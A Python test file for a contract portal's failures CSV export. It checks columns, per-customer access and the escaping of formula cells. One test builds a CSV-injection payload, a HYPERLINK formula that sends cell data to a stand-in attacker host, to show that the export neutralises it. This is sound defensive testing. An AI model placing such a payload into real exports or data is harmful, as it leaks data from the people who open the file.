"""The failures CSV of the portal: a contract year's failures, the customer's own only,
in the pages' words, with no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

from tests import factories as fx

HOSTILE_JOB = '=HYPERLINK("http://evil.example/leak?"&A2,"click")'


def _rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode())  # a spreadsheet reads UTF-8 names right
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_customer_downloads_its_year_of_failures(client_for, seed) -> None:
    alice = client_for("a")
    r = alice.get("/contracts/C-A/failures.csv?year=1")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith(
        'attachment; filename="failures-C-A-year-1.csv"')
    rows = _rows(r.content)
    from web.services import FAILURE_CSV_COLUMNS

    assert tuple(rows[0]) == FAILURE_CSV_COLUMNS
    # every failure of the year, oldest first, as the pages word them (billing.labels)
    assert [x["event_id"] for x in rows] == seed.failures["C-A"]
    first = rows[0]
    assert (first["failure_class"], first["cause"], first["status"], first["outcome"]) == (
        "unplanned", "GPU lost", "resolved", "live-migrated")
    assert (first["lost_steps"], first["recovery_seconds"], first["gpus_affected"]) == (
        "0", "2.5", "8")
    assert first["lost_gpu_hours"] == "0.005556"  # 8 × 2.5 s, as the report writes it
    assert rows[2]["failure_class"] == "pre-emptive"
    excluded = rows[4]  # network_wide_outage is excluded by default
    assert excluded["status"] == "excluded"
    assert excluded["excluded_because"] == "excluded cause: network wide outage"
    pending = rows[5]  # no outcome yet: unknown, not 0
    assert pending["outcome"] == "pending" and pending["lost_gpu_hours"] == ""
    # The list's filters apply, and the list links to the download with them.
    rolled = _rows(alice.get("/contracts/C-A/failures.csv?year=1&status=rolled_back").content)
    assert [x["event_id"] for x in rolled] == [seed.failures["C-A"][1]]
    page = alice.get("/contracts/C-A/failures?year=1&status=rolled_back").text
    assert 'href="/contracts/C-A/failures.csv?year=1&amp;status=rolled_back"' in page


def test_only_the_customers_own_contract(client_for, seed) -> None:
    alice, bob = client_for("a"), client_for("b")
    assert alice.get("/contracts/C-B/failures.csv").status_code == 404
    assert bob.get("/contracts/C-A/failures.csv").status_code == 404
    assert [x["event_id"] for x in _rows(bob.get("/contracts/C-B/failures.csv").content)] == \
        seed.failures["C-B"]
    anonymous = client_for()
    r = anonymous.get("/contracts/C-A/failures.csv", follow_redirects=False)
    assert r.status_code in (303, 401) and "failure" not in r.text.lower()


def test_no_cell_runs_as_a_formula(seeded, client_for) -> None:
    from ledger.checkpoints import sign_all
    from ledger.ingest import ingest
    from ledger.records import validate_batch
    from yoco.database import unit_of_work

    ctx, _ = seeded
    at = fx.T0 + timedelta(days=130)
    recs = [fx.rec("job_started", "C-A", at, job_id=HOSTILE_JOB, gpus=8),
            fx.rec("failure", "C-A", at + timedelta(minutes=5), job_id=HOSTILE_JOB,
                   failure_class="unplanned", cause="gpu_lost", node="n", gpu=0, step=1)]
    records, errors = validate_batch(recs)
    assert not errors, json.dumps(errors, default=str)
    with unit_of_work(ctx.engine) as s:
        ingest(s, records, None, ctx.projectors)
        sign_all(s, ctx.signer, ctx.settings.log_origin)
    body = client_for("a").get("/contracts/C-A/failures.csv?year=1").content
    (hostile,) = [x for x in _rows(body) if HOSTILE_JOB in x["job_id"]]
    assert hostile["job_id"] == "'" + HOSTILE_JOB
    for line in body.decode("utf-8-sig").splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@")), cell
